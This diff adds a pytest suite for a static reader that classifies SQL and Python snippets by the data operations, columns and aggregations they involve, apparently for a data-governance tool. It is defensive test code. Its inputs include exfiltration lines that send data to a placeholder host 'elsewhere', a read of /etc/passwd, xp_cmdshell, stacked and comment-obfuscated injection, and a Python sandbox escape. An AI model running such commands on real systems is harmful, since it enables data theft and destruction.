@@ -1,0 +1,158 @@
+"""What code does, without running it."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from lacuna.adapters.code.reader import MAX_CHARACTERS, SqlOrPython
+from lacuna.domain.operations import Aggregation, Operation
+
+READ, WRITE, EXPORT, DELETE = Operation.READ, Operation.WRITE, Operation.EXPORT, Operation.DELETE
+reader = SqlOrPython()
+
+
+@pytest.mark.parametrize(
+    ("code", "operations"),
+    [
+        ("select region from staff", {READ}),
+        ("SELECT a FROM t UNION SELECT b FROM u", {READ}),
+        ("insert into x select a from staff", {READ, WRITE}),
+        ("create table x as select a from staff", {READ, WRITE}),
+        ("select a into x from staff", {READ, WRITE}),
+        ("update staff set a = 1", {READ, WRITE}),
+        ("delete from staff", {READ, DELETE}),
+        ("drop table staff", {READ, DELETE}),
+        ("copy staff to 's3://elsewhere'", {READ, WRITE, EXPORT}),
+        ("copy (select a from staff) to program 'curl -T - elsewhere'", {READ, WRITE, EXPORT}),
+        ("df.groupby('region').mean()", {READ}),
+        ("import pandas as pd\npd.read_csv('x').to_csv('y')", {READ, EXPORT}),
+        ("df.write.saveAsTable('x')", {READ, WRITE}),
+    ],
+)
+def test_code_is_known_by_what_it_does(code: str, operations: set[Operation]) -> None:
+    found = reader.read(code)
+    assert found.readable
+    assert found.operations == operations
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "",
+        "hello",
+        "select 1; drop table staff",
+        "select pg_read_file('/etc/passwd')",
+        "select dblink('host=elsewhere', 'select 1')",
+        "select utl_http.request('http://elsewhere/' || email) from staff",
+        "select a from staff into outfile '/tmp/x'",
+        "select a from staff into/**/outfile '/tmp/x'",
+        "select a /*!50000 into dumpfile 'x' */ from staff",
+        "exec xp_cmdshell 'dir'",
+        "call anything()",
+        "grant all on staff to public",
+        "import requests\nrequests.post('http://elsewhere', data=rows)",
+        "from os import system\nsystem('curl elsewhere')",
+        "__import__('os').system('x')",
+        "eval('1')",
+        "df.__class__.__base__.__subclasses__()",
+        "open('x', 'w').write(rows)",
+        "df.apply(lambda row: row)",
+        "select " + "(" * 100 + "1" + ")" * 100,
+        "select a" + " " * MAX_CHARACTERS,
+        "select 'x",
+        "\x00",
+    ],
+)
+def test_code_that_might_do_anything_is_not_readable(code: str) -> None:
+    assert not reader.read(code).readable
+
+
+@pytest.mark.parametrize(
+    ("code", "columns"),
+    [
+        ("select s.Region from hr.staff s where s.email = 'x'", {"staff.region", "staff.email"}),
+        ("select region from staff order by salary", {"region", "salary"}),
+        ("select row_count from staff s", {"row_count"}),
+        ("with t as (select email as e from staff) select e from t", {"e", "email"}),
+    ],
+)
+def test_every_column_that_is_named_counts(code: str, columns: set[str]) -> None:
+    found = reader.read(code)
+    assert found.columns is not None
+    assert {str(column) for column in found.columns} == columns
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "select * from staff",
+        "select s.* from staff s",
+        "select count(*), t.* from staff t",
+        "select region from (select * from staff) x",
+        "select region from staff natural join pay",
+        "select region from staff join pay using (email)",
+        "insert into x select region from staff",
+    ],
+)
+def test_a_star_is_everything(code: str) -> None:
+    assert reader.read(code).columns is None
+
+
+def test_tables_are_told_but_not_those_that_are_made() -> None:
+    assert reader.read("select a from hr.staff join pay p on p.i = staff.i").tables == frozenset({"hr.staff", "pay"})
+    assert reader.read("insert into fresh select a from staff").tables == frozenset({"staff"})
+    assert reader.read("create table fresh as select a from staff").tables == frozenset({"staff"})
+    assert reader.read("with t as (select a from staff) select a from t").tables == frozenset({"staff"})
+
+
+@pytest.mark.parametrize(
+    ("code", "shape"),
+    [
+        ("select count(*) from staff", Aggregation(True)),
+        ("select count(distinct email) n from staff", Aggregation(True)),
+        (
+            "select region, avg(salary) from staff group by region having count(*) >= 7",
+            Aggregation(False, ("region",), (), 7),
+        ),
+        ("select sum(a) from staff where region = 'x' having count(*) > 9", Aggregation(False, (), ("region",), 10)),
+    ],
+)
+def test_plain_aggregations_are_recognised(code: str, shape: Aggregation) -> None:
+    assert reader.read(code).aggregation == shape
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "select region from staff",
+        "select max(salary) from staff having count(*) >= 9",
+        "select string_agg(email, ',') from staff having count(*) >= 9",
+        "select sum(case when email = 'x' then salary end) from staff having count(*) >= 9",
+        "select sum(salary) filter (where email = 'x') from staff having count(*) >= 9",
+        "select sum(salary) over (partition by email) from staff",
+        "select region, salary, count(*) from staff group by region having count(*) >= 9",
+        "select lower(region), count(*) from staff group by lower(region)",
+        "select count(*) from staff join pay on pay.i = staff.i",
+        "select count(*) from (select email from staff limit 1) x",
+        "select count(*) from staff where exists (select 1 from pay)",
+        "select count(*) from staff group by cube (region)",
+        "select count(*) from staff limit 1",
+        "select count(*) from a union select count(*) from b",
+    ],
+)
+def test_anything_that_may_show_a_row_is_no_plain_aggregation(code: str) -> None:
+    assert reader.read(code).aggregation is None
+
+
+@pytest.mark.parametrize(
+    "having", ["count(*) >= 9 or true", "count(email) >= 9", "count(*) >= 9.5", "not count(*) < 9", "9 <= count(*)"]
+)
+def test_only_a_plain_least_group_counts(having: str) -> None:
+    shape = reader.read(f"select sum(a) from staff having {having}").aggregation
+    assert shape is None or shape.least_group is None
+
+
+@given(st.text(max_size=60) | st.text("selct*from()'\";,.= \n-/", max_size=60))
+def test_nothing_that_is_written_makes_it_fail(code: str) -> None:
+    found = reader.read(code)
+    assert found.readable or found.columns is None
